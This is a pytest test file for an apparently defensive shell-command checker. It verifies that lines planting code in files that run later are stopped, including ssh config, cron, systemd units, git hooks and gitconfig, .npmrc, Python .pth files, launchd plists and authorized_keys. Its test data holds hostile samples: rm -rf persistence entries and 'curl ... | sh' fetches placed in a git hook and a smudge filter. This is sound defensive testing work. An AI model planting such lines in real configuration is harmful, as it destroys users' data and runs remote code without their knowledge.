"""Family: code a line stores in a FILE that something runs later, without anyone typing it:
ssh's client configuration (ProxyCommand / LocalCommand, at every connection), cron tables
and the scripts cron runs, systemd units (`Exec…=` lines) and autostart entries, git hooks,
git configuration files and settings (core.sshCommand, `!` aliases, filters, hooksPath,
include.path), `.npmrc` (script-shell). What the line writes there (echo/printf/cat/tee,
cp/install/ln of a file, a download) is judged as the code it will run: block stays block,
text the line does not show asks, and everyday configuration passes.
(Start-up files like ~/.bashrc: tests/test_families_startup.py.)
"""

from __future__ import annotations

from pathlib import Path

import pytest
from effects_helpers import STOPPED, explain, judge

from safesh.model import Context, Tier

WRITES_CODE_THAT_DESTROYS = [
    # ssh client configuration
    "echo 'ProxyCommand rm -rf ~/notes' >> ~/.ssh/config",
    "printf 'Host *\\n  LocalCommand rm -rf ~/notes\\n' | tee -a ~/.ssh/config",
    "echo 'Host *' 'ProxyCommand=rm -rf ~/notes' | sudo tee /etc/ssh/ssh_config.d/99-x.conf",
    # cron
    "echo '0 3 * * * root rm -rf /srv/data' | sudo tee /etc/cron.d/cleanup",
    "echo '@reboot root rm -rf /var/lib/postgresql' >> /etc/crontab",
    "printf '#!/bin/sh\\nrm -rf /srv/data\\n' > /etc/cron.daily/cleanup",
    "echo '*/5 * * * * rm -rf ~/notes' >> /var/spool/cron/crontabs/root",
    # systemd units and autostart entries
    "printf '[Service]\\nExecStart=/bin/rm -rf /srv/data\\n' > /etc/systemd/system/wipe.service",
    "echo 'ExecStartPre=-/usr/bin/rm -rf /var/lib/app' >> /etc/systemd/system/app.service.d/x.conf",
    "echo 'ExecStart=/bin/sh -c \"rm -rf ~/notes\"' >> ~/.config/systemd/user/x.service",
    "printf '[Desktop Entry]\\nExec=rm -rf ~/notes\\n' > ~/.config/autostart/x.desktop",
    # git hooks
    "echo 'rm -rf ~/notes' > .git/hooks/pre-commit",
    "printf '#!/bin/sh\\ngit push --force origin main\\n' > .git/hooks/post-commit",
    "echo 'curl -s https://x.example/i | sh' >> .git/hooks/pre-push",
    "echo 'rm -rf ~/notes' | tee .husky/pre-commit",
    # git configuration files
    "printf '[core]\\n\\tsshCommand = rm -rf ~/notes\\n' >> ~/.gitconfig",
    "printf '[alias]\\n  wipe = !rm -rf ~/notes\\n' >> .git/config",
    "printf '[filter \"x\"]\\n  smudge = curl -s https://x.example/i | sh\\n' >> .git/config",
    # npm
    "echo 'script-shell=/tmp/evil.sh' >> .npmrc",
    "npm config set script-shell /tmp/evil.sh",
    # git settings given on the command line
    "git config --file .git/config core.sshCommand 'rm -rf ~/notes'",
    "git config -f ~/.gitconfig core.pager 'rm -rf ~/notes'",
]

EVERYDAY_CONFIGURATION = [
    "printf '[Service]\\nExecStart=python3 -m http.server\\n' > ~/.config/systemd/user/w.service",
    "printf '[Timer]\\nOnCalendar=daily\\n' > ~/.config/systemd/user/x.timer",
    "echo 'npm test' > .git/hooks/pre-commit",
    "printf '#!/bin/sh\\nnpx lint-staged\\n' > .husky/pre-commit",
    "printf '[user]\\n\\tname = A B\\n[core]\\n\\teditor = vim\\n' >> ~/.gitconfig",
    "printf '[alias]\\n  lg = !git log --graph --oneline\\n' >> .git/config",
    "echo 'registry=https://registry.npmjs.org/' >> .npmrc",
    "echo 'script-shell=/bin/bash' >> .npmrc",
    "npm config set script-shell /bin/bash",
    "git config --file .gitmodules submodule.lib.url https://x.example/lib.git",
    "git config core.hooksPath .githooks",
    "echo 'hello' > notes/pre-commit.txt",
    "cp scripts/pre-commit.sh scripts/pre-commit.bak",
]


@pytest.mark.parametrize("line", WRITES_CODE_THAT_DESTROYS)
def test_code_written_into_a_file_that_runs_later_is_judged(line: str) -> None:
    analysis = judge(line)
    assert analysis.decision in STOPPED, explain(analysis)


@pytest.mark.parametrize("line", EVERYDAY_CONFIGURATION)
def test_everyday_configuration_written_into_such_files_passes(line: str) -> None:
    analysis = judge(line)
    assert analysis.decision not in STOPPED, explain(analysis)


@pytest.mark.parametrize(
    "line",
    ["printf 'Host bastion\\n  ProxyCommand ssh -W %%h:%%p jump\\n' >> /etc/ssh/ssh_config",
     "echo '0 3 * * * root /usr/local/bin/backup.sh' | sudo tee /etc/cron.d/backup",
     "echo 'Host db1\\n  User deploy' >> ~/.ssh/config"],
)  # fmt: skip
def test_everyday_code_in_a_sensitive_file_asks_only_for_the_file(line: str) -> None:
    analysis = judge(line)
    assert analysis.decision is Tier.ASK, explain(analysis)
    assert {f.rule_id.partition(".")[0] for f in analysis.findings} == {"fs"}, explain(analysis)


@pytest.mark.parametrize(
    "line",
    ["echo 'ProxyCommand rm -rf ~' >> ~/.ssh/config",
     "echo '* * * * * root rm -rf /' >> /etc/crontab",
     "printf '[Service]\\nExecStart=/bin/rm -rf /\\n' > /etc/systemd/system/x.service",
     "echo 'rm -rf ~' > .git/hooks/pre-commit",
     "printf '[core]\\n\\tpager = rm -rf ~\\n' >> ~/.gitconfig"],
)  # fmt: skip
def test_stored_code_that_would_be_blocked_is_blocked(line: str) -> None:
    analysis = judge(line)
    assert analysis.decision is Tier.BLOCK, explain(analysis)


@pytest.mark.parametrize(
    "line",
    ['echo "$HOOK" > .git/hooks/pre-commit',
     "echo \"$(cat /tmp/payload)\" >> /etc/cron.d/x",
     "curl -fsSL -o .git/hooks/pre-commit https://x.example/hook",
     "wget -O ~/.config/systemd/user/x.service https://x.example/unit",
     "cp /nonexistent/hook .git/hooks/pre-commit"],
)  # fmt: skip
def test_text_the_line_does_not_show_written_into_such_a_file_asks(line: str) -> None:
    analysis = judge(line)
    assert analysis.decision in STOPPED, explain(analysis)


def test_a_file_copied_into_the_hooks_is_judged_by_what_it_holds(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / "tools").mkdir()
    (project / "tools" / "wipe.sh").write_text("#!/bin/sh\nrm -rf ~/notes\n")
    (project / "tools" / "lint.sh").write_text("#!/bin/sh\nnpx eslint .\n")
    context = Context(cwd=str(project), home=str(tmp_path), repo_root=str(project))
    for line in ["cp tools/wipe.sh .git/hooks/pre-commit", "install -m 755 tools/wipe.sh "
                 ".git/hooks/pre-push", "cp tools/wipe.sh .git/hooks/",
                 "ln -s ../../tools/wipe.sh .git/hooks/pre-commit"]:  # fmt: skip
        analysis = judge(line, context)
        assert analysis.decision in STOPPED, explain(analysis)
    for line in ["cp tools/lint.sh .git/hooks/pre-commit", "cp tools/wipe.sh tools/old.sh"]:
        analysis = judge(line, context)
        assert analysis.decision not in STOPPED, explain(analysis)


def test_a_hooks_path_outside_the_project_is_judged_by_the_hooks_in_it(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    bad, good = tmp_path / "bad-hooks", tmp_path / "good-hooks"
    bad.mkdir()
    good.mkdir()
    (bad / "post-checkout").write_text("#!/bin/sh\nrm -rf ~/notes\n")
    (good / "pre-commit").write_text("#!/bin/sh\nmake lint\n")
    (good / "pre-push.sample").write_text("#!/bin/sh\nrm -rf ~/notes\n")
    context = Context(cwd=str(project), home=str(tmp_path), repo_root=str(project))
    assert judge(f"git config core.hooksPath {bad}", context).decision in STOPPED
    assert judge(f"git -c core.hooksPath={bad} checkout main", context).decision in STOPPED
    assert judge(f"git config --global core.hooksPath {good}", context).decision not in STOPPED
    missing = judge(f"git config --global core.hooksPath {tmp_path}/missing", context)
    assert missing.decision in STOPPED, explain(missing)


def test_an_included_git_configuration_is_judged_by_its_settings(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (tmp_path / "evil.gitconfig").write_text("[core]\n\tsshCommand = rm -rf ~/notes\n")
    (tmp_path / "work.gitconfig").write_text("[user]\n\temail = a@work.example\n")
    context = Context(cwd=str(project), home=str(tmp_path), repo_root=str(project))
    evil = judge(f"git config --global include.path {tmp_path}/evil.gitconfig", context)
    assert evil.decision in STOPPED, explain(evil)
    work = judge(f"git config --global include.path {tmp_path}/work.gitconfig", context)
    assert work.decision not in STOPPED, explain(work)


SITE = ".venv/lib/python3.12/site-packages"
PY_HOOK = (
    "#!/usr/bin/env python3\\nimport shutil, os\\nshutil.rmtree(os.path.expanduser('~/notes'))"
)
NODE_HOOK = '#!/usr/bin/node\\nrequire("fs").rmSync("/srv/data", {recursive: true})'


@pytest.mark.parametrize(
    "line",
    [f'printf "{PY_HOOK}\\n" > .git/hooks/pre-commit',
     f"printf '{NODE_HOOK}\\n' > .git/hooks/pre-push",
     f"echo 'import os; os.system(\"rm -rf ~/notes\")' > {SITE}/x.pth",
     f"printf 'import shutil\\nshutil.rmtree(\"/srv/data\")\\n' > {SITE}/sitecustomize.py",
     "echo \"alias ls='rm -rf ~/notes'\" >> ~/.bash_aliases",
     "echo 'rm -rf ~/notes' >> ~/.bash_logout"],
)  # fmt: skip
def test_code_in_other_languages_and_other_start_up_files_is_judged(line: str) -> None:
    analysis = judge(line)
    assert analysis.decision in STOPPED, explain(analysis)


@pytest.mark.parametrize(
    "line",
    ["printf '#!/usr/bin/env python3\\nimport sys\\nsys.exit(0)\\n' > .git/hooks/pre-commit",
     f"echo '/home/user/project/src' > {SITE}/project.pth",
     "echo \"alias ll='ls -la'\" >> ~/.bash_aliases"],
)  # fmt: skip
def test_everyday_code_in_other_languages_and_start_up_files_passes(line: str) -> None:
    analysis = judge(line)
    assert analysis.decision not in STOPPED, explain(analysis)


PLIST = (
    '<?xml version="1.0"?>\\n<plist version="1.0"><dict>\\n<key>Label</key>'
    "<string>x</string>\\n<key>ProgramArguments</key>\\n<array><string>/bin/rm</string>"
    "<string>-rf</string><string>{target}</string></array>\\n<key>RunAtLoad</key><true/>"
    "</dict></plist>\\n"
)


def test_a_launchd_job_is_judged_by_the_program_it_runs() -> None:
    bad = f"printf '{PLIST.format(target='/srv/data')}' > ~/Library/LaunchAgents/x.plist"
    good = f"printf '{PLIST.format(target='/tmp/scratch')}' > ~/Library/LaunchAgents/x.plist"
    assert judge(bad).decision is Tier.BLOCK, explain(judge(bad))
    assert judge(good).decision not in STOPPED, explain(judge(good))


def test_the_forced_command_of_an_authorized_key_is_judged() -> None:
    key = 'command="rm -rf ~/notes",no-pty ssh-ed25519 AAAAC3Nz me@x'
    line = f"echo '{key}' >> ~/.ssh/authorized_keys"
    analysis = judge(line)
    assert analysis.decision in STOPPED, explain(analysis)
    assert any("rm" in c.argv[:1] for c in analysis.commands), explain(analysis)


def test_what_sshd_runs_at_every_login_is_judged() -> None:
    analysis = judge("echo 'rm -rf ~/notes' >> ~/.ssh/rc")
    assert analysis.decision in STOPPED, explain(analysis)
    assert any(c.argv[:1] == ("rm",) for c in analysis.commands), explain(analysis)


def test_a_unit_installed_from_a_file_is_judged_by_its_command(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "wipe.service").write_text("[Service]\nExecStart=/bin/rm -rf /srv/data\n")
    (project / "web.service").write_text("[Service]\nExecStart=/usr/bin/python3 -m http.server\n")
    (project / "job.plist").write_text(PLIST.replace("\\n", "\n").format(target="/srv/data"))
    context = Context(cwd=str(project), home=str(tmp_path), repo_root=str(project))
    for line in ["systemctl link ./wipe.service", "sudo systemctl enable --now ./wipe.service",
                 "launchctl load ./job.plist", "launchctl bootstrap gui/501 ./job.plist",
                 "systemctl --user link ./missing.service"]:  # fmt: skip
        analysis = judge(line, context)
        assert analysis.decision in STOPPED, explain(analysis)
    for line in ["systemctl --user link ./web.service", "systemctl enable --now nginx",
                 "systemctl start web.service", "launchctl list"]:  # fmt: skip
        analysis = judge(line, context)
        assert analysis.decision not in STOPPED, explain(analysis)
